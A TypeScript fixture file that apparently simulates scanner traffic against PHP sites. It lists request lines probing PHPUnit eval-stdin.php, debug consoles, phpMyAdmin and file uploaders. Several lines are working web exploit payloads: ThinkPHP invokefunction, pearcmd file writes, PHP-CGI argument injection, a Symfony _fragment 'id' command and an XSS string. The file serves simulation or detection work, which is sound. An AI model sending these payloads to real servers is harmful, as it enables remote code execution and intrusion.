import { scan } from '../second/kind.ts';
import { FAKED, LIBRARIES, SCANNING } from './agents.ts';

/** Scanners in search of libraries and tools of PHP that run any code. */
export const PHP_SCANS = [
  scan(
    'PHPUnit that runs what it reads',
    {
      on: ['203.0.113.71', 'crm.eastmarsh.example'],
      agents: ['libredtail-http', 'Custom-AsyncHttpClient'],
      pace: 0.3,
    },
    `
    POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/phpunit/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/src/Util/PHP/eval-stdin.php
    GET /phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /V2/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /panel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    `,
  ),
  scan(
    'ThinkPHP, pearcmd and other ways to run PHP',
    { on: ['198.51.100.23', 'www.tiny-looms.example'], agents: ['libredtail-http', ...FAKED], pace: 0.4 },
    `
    GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello
    GET /index.php?s=captcha
    GET /public/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1
    GET /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php
    GET /index.php?lang=../../../../../../../../tmp/index1
    POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
    POST /cgi-bin/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1
    POST /php-cgi/php-cgi.exe?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E
    GET /?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>
    GET /index.php?-s
    `,
  ),
  scan(
    'debug pages of Laravel and of Symfony',
    { on: ['app.tallyho.example', 'intern.bergwacht-nord.example'], agents: SCANNING, pace: 0.7 },
    `
    POST /_ignition/execute-solution
    GET /_ignition/health-check
    GET /_ignition/scripts/--%3E%3Csvg%20onload=alert%28document.domain%29%3E
    GET /telescope/requests
    GET /_debugbar/open?max=20&offset=0
    GET /debugbar/open
    GET /_profiler/empty/search/results?limit=10
    GET /app_dev.php/_profiler/open?file=app/config/parameters.yml
    GET /_fragment?_path=_controller=system&command=id&_hash=x
    GET /frontend_dev.php
    GET /horizon/api/stats
    GET /storage/framework/sessions/
    POST /livewire/upload-file
    GET /rails/info/properties
    GET /__debug__/
    GET /debug/default/view?panel=config
    `,
  ),
  scan(
    'phpMyAdmin and Adminer in every folder',
    { on: ['203.0.113.71', 'www.brookfield-dental.example'], agents: FAKED, pace: 0.25 },
    `
    GET /phpmyadmin/index.php?lang=en
    GET /phpMyAdmin/index.php
    GET /pma/index.php
    GET /PMA2016/index.php?lang=en
    GET /mysqladmin/index.php
    GET /dbadmin/index.php
    GET /phpMyAdmin-5.2.0-all-languages/index.php
    GET /db/phpMyAdmin-4/index.php
    GET /adminer.php
    GET /adminer-4.8.1-mysql-en.php
    GET /phppgadmin/
    GET /sqlmanager/index.php
    GET /php-my-admin/index.php
    GET /_phpmyadmin/index.php
    GET /phpmyadmin/scripts/setup.php
    GET /pgadmin4/misc/ping
    `,
  ),
  scan(
    'editors and uploaders with holes',
    {
      on: ['www.halden-optik.example', 'kunst.vogelsang.example'],
      agents: [...FAKED, ...LIBRARIES],
      pace: 0.9,
    },
    `
    GET /fckeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&Type=File&CurrentFolder=/
    GET /ckfinder/core/connector/php/connector.php
    GET /kcfinder/upload.php
    GET /elfinder/php/connector.minimal.php
    POST /server/php/index.php
    GET /assets/global/plugins/jquery-file-upload/server/php/
    GET /filemanager/dialog.php?type=0
    GET /responsive_filemanager/filemanager/dialog.php
    GET /ueditor/net/controller.ashx?action=catchimage
    GET /Telerik.Web.UI.WebResource.axd?type=rau
    GET /uploadify/uploadify.php
    GET /tinymce/plugins/ajaxfilemanager/ajaxfilemanager.php
    `,
  ),
] as const;
